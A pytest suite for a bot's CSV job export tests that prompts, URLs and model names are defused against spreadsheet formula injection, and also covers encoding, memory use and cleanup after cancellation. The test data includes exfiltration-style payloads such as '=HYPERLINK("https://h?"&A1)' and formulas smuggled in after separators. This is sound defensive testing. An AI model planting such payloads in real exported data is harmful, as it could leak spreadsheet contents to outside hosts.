"""The file says what the database says, opens in a spreadsheet, starts no formula, and never fills the memory."""

from __future__ import annotations

import asyncio
import csv
import os
import threading
import tracemalloc
from collections.abc import AsyncIterator
from dataclasses import fields
from datetime import timedelta, timezone
from io import StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import ExportTooLarge
from bot.models import Delivery, JobRecord, JobState, Outcome
from bot.reports.csv_export import COLUMNS, defuse, pack, write_csv
from tests.storage.records import NOON, a_job

SIGNS = "=+-@＝＋－＠"
BLANKS = " \t\r\n\0\x0b\x1f\x85\xa0\u200b\u2028\ufeff"
NASTY = st.text(st.one_of(*(st.sampled_from(kind) for kind in (SIGNS, BLANKS, ";,\t\n", "\"'", "ab1|"))), max_size=12)
SCRIPTS = (
    "Привет, мир",
    "你好，世界",
    "こんにちは",
    "안녕하세요",
    "مرحبا بالعالم",
    "שלום עולם",
    "नमस्ते दुनिया",
    "สวัสดีชาวโลก",
    "Γειά σου Κόσμε",
    "ሰላም ልዑል",
    "𓀀𓂀 𝔘𝔫𝔦 𐎀",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "e\u0301 Å ﬁ",
)


async def in_chunks(*chunks: list[JobRecord]) -> AsyncIterator[list[JobRecord]]:
    for chunk in chunks:
        yield chunk


async def read_back(path: Path, *jobs: JobRecord) -> list[dict[str, str]]:
    """What a reader of CSV finds in the file of ``jobs``."""
    await write_csv(in_chunks(list(jobs)), path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "jobs.csv"


async def test_what_nobody_has_confirmed_stands_in_a_column_of_its_own(path: Path) -> None:
    job = a_job(state=JobState.DONE, outcome=Outcome.TIMEOUT, cost=1_250_000, unconfirmed=True)
    (row,) = await read_back(path, job)
    assert (row["cost"], row["unconfirmed"]) == ("0.00", "1.25")


async def test_every_column_says_what_the_job_says(path: Path) -> None:
    job = a_job(
        id="1f" * 16,
        guild_id=2**63 - 1,
        state=JobState.DONE,
        outcome=Outcome.MODERATION_IMAGE,
        percent=42.5,
        video_url="https://h/v.mp4?a=1&b=-2",
        cost=1_250_000,
        started_at=NOON + timedelta(seconds=1.5),
        finished_at=(NOON + timedelta(minutes=2)).astimezone(timezone(timedelta(hours=5))),
        delivery=Delivery.MESSAGE,
        service="relay",
        length=8,
        service_cost=1_100_000,
    )
    assert await read_back(path, job) == [
        {
            "id": "1f" * 16,
            "guild_id": "'9223372036854775807",
            "channel_id": "200",
            "message_id": "300",
            "user_id": "400",
            "model": "sora_video2",
            "prompt": "a lighthouse at dusk",
            "state": "done",
            "outcome": "moderation_image",
            "percent": "42.5",
            "video_url": "https://h/v.mp4?a=1&b=-2",
            "cost": "1.25",
            "unconfirmed": "0.00",
            "service": "relay",
            "length": "8",
            "service_cost": "1.10",
            "created_at": "2026-03-01T12:00:00.000Z",
            "started_at": "2026-03-01T12:00:01.500Z",
            "finished_at": "2026-03-01T12:02:00.000Z",
            "delivery": "message",
            "link": "https://discord.com/channels/9223372036854775807/200/300",
        }
    ]


async def test_what_is_not_known_is_empty(path: Path) -> None:
    (row,) = await read_back(path, a_job())
    assert {name for name, value in row.items() if not value} == {
        "outcome", "percent", "video_url", "service", "length", "service_cost", "started_at", "finished_at", "delivery",
    }  # fmt: skip


INTERNAL = (
    "picture",
    "picture_link",
    "locale",
    "parent",
    "spoiler",
    "cancel_asked_at",
    "task",
    "format",
    "age_restricted",
)


def test_the_columns_are_those_of_a_job_except_what_is_internal() -> None:
    assert sorted(COLUMNS) == sorted(["link", *(f.name for f in fields(JobRecord) if f.name not in INTERNAL)])


async def test_the_name_of_a_kept_file_is_no_link(path: Path) -> None:
    (row,) = await read_back(path, a_job(video_url="kept:1.mp4"))
    assert row["video_url"] == ""


async def test_the_rows_stand_in_the_order_in_which_they_came(path: Path) -> None:
    jobs = [a_job(prompt=f"prompt {number}") for number in range(7)]
    assert await write_csv(in_chunks(jobs[:3], [], jobs[3:]), path) == 7
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert [row["id"] for row in csv.DictReader(file)] == [job.id for job in jobs]


async def test_no_jobs_make_a_file_with_headings(path: Path) -> None:
    assert await write_csv(in_chunks(), path) == 0
    assert path.read_bytes() == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"


async def test_the_mark_of_utf8_stands_once_and_lines_end_as_rfc_4180_says(path: Path) -> None:
    await write_csv(in_chunks([a_job()], [a_job()]), path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.count(b"\r\n") == data.count(b"\n") == 3
    assert data.endswith(b"\r\n")


@pytest.mark.parametrize("prompt", SCRIPTS)
async def test_prompts_of_all_scripts_come_back_unchanged(path: Path, prompt: str) -> None:
    (row,) = await read_back(path, a_job(prompt=prompt))
    assert row["prompt"] == prompt


@pytest.mark.parametrize(
    "prompt",
    ['he said "hello", and left', "one\ntwo\r\nthree\rfour", '"', '""', ",", "  around  ", "a\u2028b\x85c", "'"],
)
async def test_quotes_commas_and_line_ends_stay_inside_their_cell(path: Path, prompt: str) -> None:
    (row,) = await read_back(path, a_job(prompt=prompt))
    assert row["prompt"] == prompt
    assert row["state"] == "queued"


@pytest.mark.parametrize("sign", SIGNS)
async def test_no_text_from_outside_is_a_formula(path: Path, sign: str) -> None:
    formula = f'{sign}HYPERLINK("https://h?"&A1)'
    before = ["", " ", "\n", "\t", "\r\n", "\x0b", "\xa0", "\u200b", "\ufeff", '"', "\x01", " \t \u2028"]
    texts = [f"{blank}{formula}" for blank in before]
    rows = await read_back(path, *(a_job(prompt=text, model=text, video_url=text) for text in texts))
    assert len(rows) == len(texts)
    for row in rows:
        for column in ("prompt", "model", "video_url"):
            assert row[column].startswith("'")
            assert row[column].endswith(formula)


@pytest.mark.parametrize(
    ("prompt", "written"),
    [
        ("a cat;=1+1", "a cat;'=1+1"),
        ("a cat; =1+1", "a cat;' =1+1"),
        ('a cat;"=1+1"', 'a cat;\'"=1+1"'),
        ("a cat\t@SUM(1)", "a cat\t'@SUM(1)"),
        ("a cat\n=1+1", "a cat\n'=1+1"),
        ("a cat\r\n\r\n - 1", "a cat\r\n\r\n' - 1"),
        ("a cat;;＝1", "a cat;;'＝1"),
    ],
)
def test_no_formula_begins_amid_a_text_either(prompt: str, written: str) -> None:
    assert defuse(prompt) == written


@pytest.mark.parametrize("prompt", ["\ta cat", "\ra cat", "\na cat"])
def test_a_text_that_begins_with_a_tab_or_a_line_end_is_marked_as_text(prompt: str) -> None:
    assert defuse(prompt) == f"'{prompt}"


def test_nul_is_gone_and_hides_no_formula() -> None:
    assert defuse("\0=1\0+1") == "'=1+1"


@pytest.mark.parametrize(
    "prompt", ["", "a cat - orange", "2 + 2 = 4", "mail me @ home", "slow; then fast", "'=1", "#1 (of 2)", "a -b\n c"]
)
def test_a_text_that_starts_no_formula_is_left_as_it_is(prompt: str) -> None:
    assert defuse(prompt) == prompt


@given(NASTY, NASTY)
def test_no_cell_is_a_formula_even_where_a_spreadsheet_splits_elsewhere(first: str, second: str) -> None:
    """Excel takes the separator of its country, and then our quotes no longer hold a text together."""
    file = StringIO()
    csv.writer(file).writerow(["0", defuse(first), defuse(second), "0"])
    for split in ",;\t":
        for row in csv.reader(StringIO(file.getvalue(), newline=""), delimiter=split):
            for cell in row:
                assert not cell.lstrip(f'{BLANKS}"').startswith(tuple(SIGNS)), (row, file.getvalue())


@given(NASTY)
def test_only_apostrophes_come_in_and_only_nul_goes_out(text: str) -> None:
    assert defuse(text).replace("'", "") == text.replace("\0", "").replace("'", "")
    assert defuse(defuse(text)).lstrip("'") == defuse(text).lstrip("'")


def test_a_text_made_to_be_slow_is_not() -> None:
    """With a pattern that looks twice at the same places this takes minutes."""
    for text in ("\n" * 200_000, "; " * 200_000, '"' * 200_000, " \t" * 200_000):
        assert defuse(text).replace("'", "") == text


async def test_half_a_character_costs_no_other_row(path: Path) -> None:
    rows = await read_back(path, a_job(prompt="\ud83d"), a_job(prompt="whole"))
    assert [row["prompt"] for row in rows] == ["?", "whole"]


async def test_a_long_file_takes_no_more_memory_than_a_chunk(path: Path) -> None:
    async def many() -> AsyncIterator[list[JobRecord]]:
        for _ in range(40):
            yield [a_job(prompt="a lighthouse " * 300) for _ in range(50)]

    tracemalloc.start()
    try:
        assert await write_csv(many(), path) == 2000
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert path.stat().st_size > 7_500_000
    assert peak < 2_000_000


async def test_a_cancel_leaves_neither_file_nor_handle(path: Path) -> None:
    arrived = asyncio.Event()

    async def endless() -> AsyncIterator[list[JobRecord]]:
        yield [a_job()]
        arrived.set()
        await asyncio.Event().wait()

    writing = asyncio.create_task(write_csv(endless(), path))
    await arrived.wait()
    assert path.exists()
    writing.cancel()
    with pytest.raises(asyncio.CancelledError):
        await writing
    assert not path.exists()
    assert not _is_open(path)


async def test_a_cancel_waits_for_the_thread_that_writes(path: Path) -> None:
    """Else it would write into a directory that its owner has cleared. Even two cancels wait."""
    writes, may_go_on = asyncio.Event(), threading.Event()
    loop = asyncio.get_running_loop()

    class Slow(list[JobRecord]):
        def __iter__(self):  # type: ignore[no-untyped-def]  # noqa: ANN204
            loop.call_soon_threadsafe(writes.set)
            may_go_on.wait(30)
            return super().__iter__()

    writing = asyncio.create_task(write_csv(in_chunks(Slow([a_job()])), path))
    await writes.wait()
    for _ in range(2):
        writing.cancel()
        await asyncio.wait([writing], timeout=0.01)
        assert not writing.done()
    may_go_on.set()
    with pytest.raises(asyncio.CancelledError):
        await writing
    assert not path.exists()


async def test_a_failing_database_leaves_no_half_file(path: Path) -> None:
    async def broken() -> AsyncIterator[list[JobRecord]]:
        yield [a_job()]
        raise ConnectionError("gone")

    with pytest.raises(ConnectionError):
        await write_csv(broken(), path)
    assert not path.exists()


async def test_a_file_that_cannot_be_written_is_told_as_it_is(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        await write_csv(in_chunks([a_job()]), tmp_path / "nowhere" / "jobs.csv")


async def test_a_small_file_stays_as_it_is(path: Path) -> None:
    path.write_bytes(b"x" * 100)
    assert await pack(path, 100) == path
    assert [*path.parent.iterdir()] == [path]


async def test_a_larger_file_is_packed_beside_it(path: Path) -> None:
    path.write_bytes(b"one line like another\r\n" * 200_000)
    packed = await pack(path, 1_000_000)
    assert packed == path.with_name("jobs.csv.zip")
    assert packed.stat().st_size < 1_000_000
    with ZipFile(packed) as archive:
        assert archive.namelist() == ["jobs.csv"]
        assert archive.read("jobs.csv") == path.read_bytes()


@pytest.mark.parametrize("size", [110, 5_000_000])
async def test_what_is_too_large_even_packed_is_told_with_both_sizes(path: Path, size: int) -> None:
    path.write_bytes(os.urandom(size))
    limit = 100 if size < 1000 else 2 * 1024 * 1024
    with pytest.raises(ExportTooLarge) as caught:
        await pack(path, limit)
    assert [*path.parent.iterdir()] == [path]
    assert (caught.value.size, caught.value.limit) == (size, limit)


async def test_a_cancelled_packing_leaves_no_archive(path: Path) -> None:
    path.write_bytes(os.urandom(5_000_000))
    packing = asyncio.create_task(pack(path, 4_999_999))
    await asyncio.sleep(0)
    packing.cancel()
    with pytest.raises(asyncio.CancelledError):
        await packing
    assert [*path.parent.iterdir()] == [path]


def _is_open(path: Path) -> bool:
    handles = Path("/proc/self/fd")
    if not handles.exists():
        return False
    return any(str(path) in os.readlink(handle) for handle in handles.iterdir() if handle.is_symlink())
